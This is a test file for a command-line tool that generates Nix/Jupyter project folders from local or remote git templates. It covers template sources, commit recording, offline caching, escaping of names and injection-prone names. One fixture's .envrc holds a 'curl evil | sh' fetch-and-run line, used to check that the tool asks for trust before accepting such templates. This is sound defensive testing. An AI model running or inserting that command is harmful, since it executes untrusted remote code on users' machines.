import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { contents, entries, run } from './support/program.js'
import { git, makeScene } from './support/scene.js'
import { FILES, make, makeForgeScene } from './support/templates.js'
import { open } from './support/terminal.js'

const record = (folder: string) => JSON.parse(readFileSync(path.join(folder, 'lab/.nix-jupyter.json'), 'utf8'))

describe('a template from elsewhere', () => {
  it('comes from GitHub, is filled in, and its commit is recorded', async () => {
    const { folder, env, forge } = await makeForgeScene()
    const commit = forge.repository('ada/wine', FILES)
    const { code, stdout, stderr } = await make(folder, env, '-t', 'ada/wine')
    expect([code, stderr]).toEqual([0, ''])
    expect(stdout).toContain(`--template 'ada/wine#${commit}'`)
    expect(record(folder).template).toBe(`ada/wine#${commit}`)
    expect(contents(path.join(folder, 'lab'))).toMatchObject({
      'flake.nix': '{ description = "lab"; }\n',
      start: '#!/bin/sh\necho lab\n',
      'README.md': '# lab with Python 3.13\n\nUse {{other}} and {{ github.ref }}.\n',
    })
    expect(statSync(path.join(folder, 'lab/start')).mode & 0o777).toBe(0o755)
    expect(git(path.join(folder, 'lab'), 'status', '--porcelain')).toBe('')
  })

  it.each([
    ['gitlab:ada/wine', 'gitlab.com/ada/wine/-/archive/'],
    ['bitbucket:ada/wine', 'bitbucket.org/ada/wine/get/'],
    ['git.sr.ht/~ada/wine', 'git.sr.ht/~ada/wine/archive/'],
    ['https://github.com/ada/wine', 'github.com/ada/wine/archive/'],
  ])('comes from %s', async (address, asked) => {
    const { folder, env, forge } = await makeForgeScene()
    forge.repository(address.includes('~') ? '~ada/wine' : 'ada/wine', FILES)
    expect(await make(folder, env, '-t', address)).toMatchObject({ code: 0 })
    expect(forge.requests[0]).toContain(asked)
  })

  it('comes from a folder and a branch, a tag or a commit of a repository', async () => {
    const { folder, env, forge } = await makeForgeScene()
    const commit = forge.repository('ada/wine', FILES)
    const repository = path.join(path.dirname(folder), 'forge/ada/wine')
    git(repository, '-c', 'user.name=A', '-c', 'user.email=a@b', 'tag', '-a', 'v1', '-m', 'one')
    for (const [index, ref] of ['main', 'v1', commit].entries()) {
      const ran = await run([`lab${index}`, '-y', '-t', `ada/wine/inner#${ref}`], folder, env)
      expect(ran).toMatchObject({ code: 0 })
      expect(readFileSync(path.join(folder, `lab${index}/flake.nix`), 'utf8')).toBe('{ inner = true; }\n')
      expect(ran.stdout).toContain(commit)
    }
  })

  it('comes, when it is private, through git and its credentials', async () => {
    const { folder, env, forge } = await makeForgeScene()
    const commit = forge.repository('ada/secret', FILES)
    forge.answer((_, response) => response.writeHead(404).end())
    expect(await make(folder, env, '-t', 'ada/secret/inner')).toMatchObject({ code: 0 })
    expect(record(folder).template).toBe(`ada/secret/inner#${commit}`)
    expect(entries(path.join(folder, 'lab'))).toEqual(['.git', '.nix-jupyter.json', 'flake.nix'])
  })

  it('comes from a folder on this machine', async () => {
    const { folder, env } = makeScene()
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ description = "{{name}}"; }\n')
    expect(await make(folder, env, '-t', './mine')).toMatchObject({ code: 0 })
    expect(readFileSync(path.join(folder, 'lab/flake.nix'), 'utf8')).toBe('{ description = "lab"; }\n')
  })

  it('--offline takes it from the cache; what is not there is exit 4', async () => {
    const { folder, env, forge } = await makeForgeScene()
    forge.repository('ada/wine', FILES)
    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({
      code: 4,
      stderr: expect.stringContaining('not in the cache'),
    })
    expect(await run(['first', '-y', '-t', 'ada/wine'], folder, env)).toMatchObject({ code: 0 })
    forge.close()
    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({ code: 0 })
    expect(contents(path.join(folder, 'lab')).start).toBe('#!/bin/sh\necho lab\n')
  })

  it('I12: without a ./start it is not told to start', async () => {
    const { folder, env } = makeScene()
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ }\n')
    const { stdout } = await make(folder, env, '-t', './mine')
    expect(stdout).toContain('nix develop')
    expect(stdout).not.toContain('./start')
  })

  it('escapes what it fills in', async () => {
    const { folder, env } = makeScene()
    const here = path.join(folder, 'it is <b>')
    mkdirSync(here)
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ description = "{{name}}"; }\n')
    writeFileSync(path.join(folder, 'mine/README.md'), '{{name}}\n')
    expect(await run(['.', '-y', '-t', '../mine'], here, env)).toMatchObject({ code: 0 })
    expect(readFileSync(path.join(here, 'README.md'), 'utf8')).toBe('it is \\<b\\>\n')
    execFileSync('nix-instantiate', ['--parse', path.join(here, 'flake.nix')])
  })
})

describe("I8: a name that could end a string of the template's", () => {
  it.each([
    ["it's", 'flake.nix', "{ description = ''{{name}}''; }\n"],
    ["a''b", 'flake.nix', "{ description = ''{{name}}''; }\n"],
    ["it's", 'server.py', "NAME = '{{name}}'\n"],
  ])('%s in %s is refused, and the file is named', async (name, file, content) => {
    const { folder, env } = makeScene()
    mkdirSync(path.join(folder, name))
    mkdirSync(path.join(folder, 'mine'))
    writeFileSync(path.join(folder, 'mine/flake.nix'), '{ }\n')
    writeFileSync(path.join(folder, 'mine', file), content)
    const ran = await run(['.', '-y', '-t', '../mine'], path.join(folder, name), env)
    expect(ran).toMatchObject({ code: 2, stderr: expect.stringContaining(file) })
    expect(entries(path.join(folder, name))).toEqual([])
  })
})

describe('a template that can run code by itself', () => {
  const risky = { ...FILES, '.envrc': 'curl evil | sh\n', 'flake.nix': '{ nixConfig.substituters = [ "x" ]; }\n' }

  it('needs --trust without a terminal', async () => {
    const { folder, env, forge } = await makeForgeScene()
    forge.repository('ada/wine', risky)
    const ran = await make(folder, env, '-t', 'ada/wine')
    expect(ran).toMatchObject({ code: 2, stderr: expect.stringContaining('.envrc, flake.nix') })
    expect(entries(folder)).toEqual([])
    expect(await make(folder, env, '-t', 'ada/wine', '--trust')).toMatchObject({ code: 0 })
  })

  it.each([
    ['yes', 'y', 0],
    ['no', 'n', 1], // F5: answered, not interrupted
  ])('is shown and asked about in a terminal: %s', async (_, key, code) => {
    const { folder, env, forge } = await makeForgeScene()
    forge.repository('ada/wine', risky)
    const session = open(['lab', '-t', 'ada/wine', '--python', '3.13', '--git'], folder, env)
    await session.see('curl evil | sh')
    await session.see('Use it?')
    session.type(key)
    expect(await session.exited).toBe(code)
    expect(entries(folder)).toEqual(code === 0 ? ['lab'] : [])
  })
})
